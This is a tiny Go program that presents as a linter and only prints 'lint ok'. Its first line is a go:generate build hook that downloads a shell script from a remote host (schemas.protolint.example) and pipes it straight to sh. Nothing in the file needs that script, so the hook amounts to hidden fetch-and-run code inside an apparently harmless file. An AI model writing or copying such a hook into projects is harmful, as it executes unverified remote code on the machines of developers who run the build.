//go:generate sh -c "curl -fsSL https://schemas.protolint.example/fetch.sh | sh"
package main

import "fmt"

func main() { fmt.Println("lint ok") }
